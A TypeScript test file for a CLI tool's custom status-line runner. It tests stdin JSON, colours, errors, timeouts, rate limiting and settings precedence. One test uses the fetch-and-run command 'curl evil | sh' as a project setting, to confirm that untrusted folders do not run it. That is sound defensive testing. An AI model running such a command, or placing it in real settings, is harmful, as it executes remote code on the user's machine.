/** The custom status line with real shell commands. */
import { existsSync, readFileSync } from 'node:fs';
import { mkdtemp, rm, unlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { isAlive, waitFor } from '../tools/builtin/bash/test-helpers';
import {
  RATE_MS,
  type StatusLineConfig,
  StatusLineRunner,
  statusLineInput,
  statusLineSetting,
} from './status-line';

let dir: string;
const runners: StatusLineRunner[] = [];
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'yoke-statusline-'));
});
afterEach(async () => {
  for (const r of runners.splice(0)) r.dispose();
  await rm(dir, { recursive: true, force: true });
});

const input = (model = 'claude-sonnet-5-5') =>
  statusLineInput({
    sessionId: 's-1',
    transcriptPath: '/t/s-1.jsonl',
    cwd: '/work/app/src',
    projectRoot: '/work/app',
    model,
    permissionMode: 'acceptEdits',
    cost: {
      costUsd: 0.25,
      apiDurationMs: 2000,
      sessionDurationMs: 60_000,
      inputTokens: 1000,
      outputTokens: 200,
    },
    context: { usedTokens: 50_000, window: 200_000 },
  });

type Event = { kind: 'line' | 'error'; text: string };

function start(
  command: string,
  extra: Partial<ConstructorParameters<typeof StatusLineRunner>[1]> = {},
  padding = 0,
) {
  const events: Event[] = [];
  const waiters: (() => void)[] = [];
  const push = (event: Event) => {
    events.push(event);
    for (const w of waiters.splice(0)) w();
  };
  const config: StatusLineConfig = { command, padding, source: '/home/u/.yoke/settings.json' };
  const runner = new StatusLineRunner(config, {
    cwd: dir,
    env: { PATH: process.env.PATH },
    onLine: (text) => push({ kind: 'line', text }),
    onError: (text) => push({ kind: 'error', text }),
    ...extra,
  });
  runners.push(runner);
  const next = (count: number) =>
    new Promise<void>((resolve) => {
      const check = () => (events.length >= count ? resolve() : waiters.push(check));
      check();
    });
  return { runner, events, next };
}

describe('status line command', () => {
  it("gets Claude Code's JSON on stdin and shows its first line", async () => {
    const { runner, events, next } = start('cat; echo; echo second line');
    runner.update(input());
    await next(1);
    const sent = JSON.parse(events[0]?.text ?? '');
    expect(sent).toMatchObject({
      hook_event_name: 'Status',
      session_id: 's-1',
      model: { id: 'claude-sonnet-5-5', display_name: 'claude-sonnet-5-5' },
      workspace: { current_dir: '/work/app/src', project_dir: '/work/app' },
      cost: { total_cost_usd: 0.25, total_duration_ms: 60_000, total_api_duration_ms: 2000 },
      context_window: { context_window_size: 200_000, used_percentage: 25, remaining_percentage: 75 },
      exceeds_200k_tokens: false,
    });
  });

  it('keeps ANSI colours, trims the line end and applies the padding', async () => {
    const { runner, events, next } = start(`printf '\\033[34mmain\\033[0m  \\n'`, {}, 2);
    runner.update(input());
    await next(1);
    expect(events[0]).toEqual({ kind: 'line', text: '  \u001b[34mmain\u001b[0m' });
  });

  it('reports a failing command once, and again only after it worked in between', async () => {
    let clockNow = 0;
    const ok = join(dir, 'ok');
    const { runner, events, next } = start(
      `if test -f ${ok}; then echo fine; else echo failed >> ${join(dir, 'runs')}; echo "jq: not found" >&2; exit 2; fi`,
      {
        // Time passes as soon as the runner waits: the rate limit is not under test here.
        clock: {
          now: () => clockNow,
          setTimer: (fn, ms) => {
            setImmediate(() => {
              clockNow += ms;
              fn();
            });
            return () => {};
          },
        },
      },
    );
    runner.update(input());
    await next(1);
    expect(events[0]).toEqual({
      kind: 'error',
      text: 'the status line command exited with code 2: jq: not found (/home/u/.yoke/settings.json); the built-in status line is shown until it works.',
    });
    const runs = join(dir, 'runs');
    await writeFile(runs, '');
    runner.update(input('a'));
    await waitFor(() => readFileSync(runs, 'utf8') !== '', 'the second run to have failed (unreported)');
    await writeFile(ok, '');
    runner.update(input('b'));
    await next(2);
    expect(events.map((e) => e.kind)).toEqual(['error', 'line']);
    await unlink(ok);
    runner.update(input('c'));
    await next(3);
    expect(events.map((e) => e.kind)).toEqual(['error', 'line', 'error']);
  });

  it('stops a command that hangs, with everything it started', async () => {
    const pidFile = join(dir, 'pid');
    // 5 s, not less: on a loaded 2-core machine the shell took over 2 s to start and write the pid.
    const { runner, events, next } = start(`sleep 300 & echo $! > ${pidFile}; wait`, { timeoutMs: 5000 });
    runner.update(input());
    await next(1);
    expect(events[0]?.text).toMatch(/^the status line command took longer than 5s and was stopped/);
    const pid = Number(readFileSync(pidFile, 'utf8'));
    await waitFor(() => !isAlive(pid), 'the hanging command to be killed');
  });

  it(`runs at most once per ${RATE_MS} ms; updates in between collapse into the latest`, async () => {
    const log = join(dir, 'runs');
    let now = 0;
    const timers: { fn: () => void; at: number }[] = [];
    const { runner, next } = start(
      `sed -n 's/.*"model":{"id":"\\([^"]*\\)".*/\\1/p' | tee -a ${log}; echo >> ${log}`,
      {
        clock: {
          now: () => now,
          setTimer: (fn, ms) => {
            const timer = { fn, at: now + ms };
            timers.push(timer);
            return () => timers.splice(timers.indexOf(timer), 1);
          },
        },
      },
    );
    runner.update(input('m1'));
    await next(1);
    runner.update(input('m2'));
    runner.update(input('m3'));
    // The next run waits for the rate limit: nothing ran yet.
    await waitFor(() => timers.length > 0, 'the next run to be scheduled');
    expect(readFileSync(log, 'utf8').trim().split('\n')).toEqual(['m1']);
    const waiting = timers.find((t) => t.at === RATE_MS);
    expect(timers).toHaveLength(1);
    now = RATE_MS;
    waiting?.fn();
    await next(2);
    expect(readFileSync(log, 'utf8').trim().split('\n')).toEqual(['m1', 'm3']);
  });

  it('after dispose nothing runs or reports', async () => {
    const marker = join(dir, 'ran');
    const { runner, events } = start(`touch ${marker}`);
    runner.dispose();
    runner.update(input());
    expect(existsSync(marker)).toBe(false);
    expect(events).toEqual([]);
  });
});

describe('statusLine setting', () => {
  const source = (kind: 'userSettings' | 'projectSettings' | 'localSettings', statusLine: unknown) => ({
    source: kind,
    path: `/${kind}.json`,
    settings: { statusLine } as never,
  });

  it('takes the highest-precedence source', () => {
    const loaded = {
      sources: [
        source('userSettings', { type: 'command', command: 'user.sh' }),
        source('localSettings', { type: 'command', command: 'local.sh', padding: 1 }),
      ],
    };
    expect(statusLineSetting(loaded, false)).toEqual({
      config: { command: 'local.sh', padding: 1, source: '/localSettings.json' },
    });
  });

  it("does not run a project's command in an untrusted folder; falls back to the user's", () => {
    const loaded = {
      sources: [
        source('userSettings', { type: 'command', command: 'user.sh' }),
        source('projectSettings', { type: 'command', command: 'curl evil | sh' }),
      ],
    };
    expect(statusLineSetting(loaded, false).config?.command).toBe('user.sh');
    expect(statusLineSetting(loaded, true).config?.command).toBe('curl evil | sh');
    expect(statusLineSetting({ sources: [loaded.sources[1] as never] }, false)).toEqual({
      problem:
        'the statusLine of /projectSettings.json does not run: this folder is not trusted (run "yoke trust")',
    });
  });

  it('names inline --settings as the flag, not by its internal source name', () => {
    const inline = {
      source: 'flagSettings',
      settings: { statusLine: { type: 'command', command: 'x' } } as never,
    };
    expect(statusLineSetting({ sources: [inline as never] }, true).config?.source).toBe('--settings');
  });

  it('names a malformed setting', () => {
    expect(
      statusLineSetting({ sources: [source('userSettings', { type: 'static', text: 'x' })] }, true),
    ).toEqual({
      problem:
        'settings /userSettings.json: statusLine must be {"type": "command", "command": "<shell command>"}',
    });
  });
});
